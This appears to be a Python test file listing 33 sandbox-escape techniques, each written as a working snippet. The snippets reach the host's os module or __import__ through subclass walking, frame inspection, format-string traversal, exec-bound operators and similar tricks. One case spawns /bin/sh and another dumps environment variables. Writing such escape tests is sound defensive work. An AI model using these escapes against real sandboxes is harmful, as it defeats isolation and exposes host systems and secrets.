"""Techniques 1 to 33: escapes within the language.

There is no wall inside the language, on purpose: the code may reach every object of its process.
Each case reaches what the technique is after, and uses it against the host (`inside.use`).
"""

from sandbox.attacks.case import Case, Layer

_BOTH: tuple[Layer, ...] = ("together",)


def reaches(number: str, name: str, code: str) -> Case:
    return Case(name, (number,), code, "contained", _BOTH)


CASES = (
    reaches(
        "1",
        "a literal's class to Popen",
        """
import subprocess
[Popen] = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"]
try:
    Popen(["/bin/sh", "-c", f"echo x > {outside}/popen"]).wait()
except OSError as error:
    print(error)
use(Popen.__init__.__globals__["os"])
""",
    ),
    reaches(
        "2",
        "catch_warnings to its builtins",
        """
import warnings
[found] = [c for c in object.__subclasses__() if c.__name__ == "catch_warnings"]
use(found()._module.__builtins__["__import__"]("os"))
""",
    ),
    reaches(
        "3",
        "the globals of os._wrap_close",
        """
[found] = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"]
use(found.__init__.__globals__["sys"].modules["os"])
""",
    ),
    reaches(
        "4",
        "BuiltinImporter among the subclasses",
        """
import warnings
warnings.simplefilter("ignore")
[found] = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"]
use(found.load_module("posix"))
""",
    ),
    reaches(
        "5",
        "__getattribute__ by call",
        """
kind = ().__getattribute__("__class__")
base = type.__dict__["__base__"].__get__(kind)
[found] = [c for c in base.__subclasses__() if c.__name__ == "_wrap_close"]
use(found.__init__.__getattribute__("__globals__")["sys"].modules["os"])
""",
    ),
    reaches(
        "6",
        "type.__getattribute__ as a trampoline",
        """
[base] = type.__getattribute__(tuple, "__bases__")
every = type.__getattribute__(base, "__subclasses__")()
[found] = [c for c in every if c.__name__ == "_wrap_close"]
use(type.__getattribute__(found, "__init__").__globals__["sys"].modules["os"])
""",
    ),
    reaches(
        "7",
        "object.__setattr__ changes a class under a guard",
        """
import os
class Guard:
    def __setattr__(self, name, value): raise TypeError("guarded")
    def go(self): return "kept"
class Open(Guard):
    def go(self): return use(os)
guarded = Guard()
object.__setattr__(guarded, "__class__", Open)
guarded.go()
""",
    ),
    reaches(
        "8",
        "getattr with a computed name",
        """
import random
use(getattr(random, "_" + "so"[::-1]))
""",
    ),
    reaches(
        "9",
        "map and partial over getattr",
        """
import functools, random
[module] = map(getattr, [random], ["_os"])
use(functools.partial(getattr, random)("_os"))
""",
    ),
    reaches(
        "10",
        "attrgetter and methodcaller",
        """
import operator, random
operator.methodcaller("__getattribute__", "_os")(random)
use(operator.attrgetter("seed.__func__.__globals__")(random)["_os"])
""",
    ),
    reaches(
        "11",
        "a name picked out of dir()",
        """
import random
use(getattr(random, [name for name in dir(random) if len(name) == 3 and name[-1] == "s"][0]))
""",
    ),
    reaches(
        "12",
        "vars() edits",
        """
import random, types
box = types.SimpleNamespace()
vars(box).update(vars(random))
use(box.__dict__["_os"])
""",
    ),
    reaches(
        "13",
        "str.format follows attributes",
        """
import os, random
text = "{0.__class__.__init__.__globals__[_os]}".format(random.Random())
assert "module 'os'" in text
use(os)
""",
    ),
    reaches(
        "14",
        "format_map and Formatter",
        """
import random, string
"{r._os.environ}".format_map({"r": random})
found, _ = string.Formatter().get_field("r.seed.__func__.__globals__[_os]", (), {"r": random})
use(found)
""",
    ),
    Case(
        "a format field dumps the environment as text",
        ("15",),
        """
import random
print("{0.seed.__func__.__globals__[_os].environ}".format(random))
print("{0.seed.__func__.__globals__}".format(random)[:40_000])
"reached"
""",
        "contained",
        ("process",),
    ),
    reaches(
        "16",
        "an f-string's text spliced into a template",
        """
import os, random
chosen = "0._os.environ"
text = f"{{{chosen}}}".format(random)
assert "environ" in text
use(os)
""",
    ),
    reaches(
        "17",
        "AttributeError.obj hands the object back",
        """
import random
try:
    random._os.nothing_of_that_name
except AttributeError as error:
    found = error.obj
use(found)
""",
    ),
    reaches(
        "18",
        "an exception whose __str__ is the payload",
        """
import os
class Bad(Exception):
    def __str__(self):
        print(use(os))
        return "looked at"
    __repr__ = __str__
raise Bad
""",
    ),
    reaches(
        "19",
        "a traceback's frames up to the kernel",
        """
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
while frame.f_back:
    frame = frame.f_back
    if "os" in frame.f_globals: found = frame.f_globals["os"]
use(found)
""",
    ),
    reaches(
        "20",
        "frames of a generator, a coroutine and an async generator",
        """
def generator(): yield
async def coroutine(): pass
async def both(): yield
first, second, third = generator(), coroutine(), both()
frames = [first.gi_frame, second.cr_frame, third.ag_frame]
second.close()
use(frames[0].f_builtins["__import__"]("os"))
""",
    ),
    reaches(
        "21",
        "_getframe, currentframe and _current_frames",
        """
import inspect, sys, threading
frames = [sys._getframe(), inspect.currentframe()]
frame = sys._current_frames()[threading.get_ident()]
while frame.f_code.co_name != "serve": frame = frame.f_back
use(frame.f_globals["os"])
""",
    ),
    reaches(
        "22",
        "a signal handler takes the kernel's frame",
        """
import signal
def handler(number, frame):
    while frame:
        frames.append(frame)
        frame = frame.f_back
frames = []
signal.signal(signal.SIGALRM, handler)
signal.raise_signal(signal.SIGALRM)
[found, *_] = [f.f_globals["os"] for f in frames if "Kernel" in f.f_globals]
use(found)
""",
    ),
    reaches(
        "23",
        "trace and profile hooks",
        """
import sys
frames = []
sys.settrace(lambda frame, *_: frames.append(frame))
sys.setprofile(lambda frame, *_: frames.append(frame))
(lambda: None)()
sys.settrace(None); sys.setprofile(None)
use(frames[0].f_builtins["__import__"]("os"))
""",
    ),
    reaches(
        "24",
        "except* and a group that lies about its class",
        """
import os
class Liar(ExceptionGroup):
    def derive(self, errors): return Liar("again", [*errors, KeyError(os)])
    def split(self, condition): return super().split(condition)
try:
    raise Liar("a", [ValueError(os), TypeError(os)])
except* ValueError as group:
    found = group.exceptions[0].args[0]
except* TypeError:
    pass
use(found)
""",
    ),
    reaches(
        "25",
        "a class without a class statement",
        """
import os
use(type("Made", (), {"__getattr__": lambda self, name: getattr(os, name)})())
""",
    ),
    reaches(
        "26",
        "a metaclass whose subscript is exec",
        """
class Meta(type):
    __getitem__ = lambda cls, code: exec(code, globals())
class Run(metaclass=Meta): pass
Run["import os; said = use(os)"]
said
""",
    ),
    reaches(
        "27",
        "operators bound to exec and eval",
        """
class Op:
    def __iadd__(self, code): exec(code, globals()); return self
    def __matmul__(self, code): return eval(code)
    def __contains__(self, code): return bool(eval(code))
op = Op()
op += "import os"
"os" in op
op @ "use(os)"
""",
    ),
    reaches(
        "28",
        "decorators as calls",
        """
def text(_): return "import os; said = use(os)"
@exec
@text
class Run: pass
said
""",
    ),
    reaches(
        "29",
        "hooks at the definition of a class",
        """
import os
said = []
class Name:
    def __set_name__(self, owner, name): said.append(use(os))
class Base:
    def __init_subclass__(cls): said.append(use(os))
    def __class_getitem__(cls, item): return use(item)
class Run(Base): name = Name()
Run[os] and said[1]
""",
    ),
    reaches(
        "30",
        "with over a chosen __enter__",
        """
import os
class Enter:
    __enter__ = staticmethod(lambda: use(os))
    __exit__ = staticmethod(lambda *_: exec("1"))
with Enter() as said: pass
said
""",
    ),
    reaches(
        "31",
        "augmented assignment to an attribute",
        """
import os
class Text(str):
    def __add__(self, other): return other
class Box: pass
Box.__qualname__ += "x"
box = Box(); box.found = Text(); box.found += os
use(box.found)
""",
    ),
    reaches(
        "32",
        "a match pattern reads attributes",
        """
import random, types
match random:
    case types.ModuleType(_os=found, __dict__=more): pass
use(more["_os"]) and use(found)
""",
    ),
    reaches(
        "33",
        "a positional-only parameter shadows a guard",
        """
import os
def call(_getattr_, __import__, print, /): return _getattr_(__import__)
call(use, os, None)
""",
    ),
)
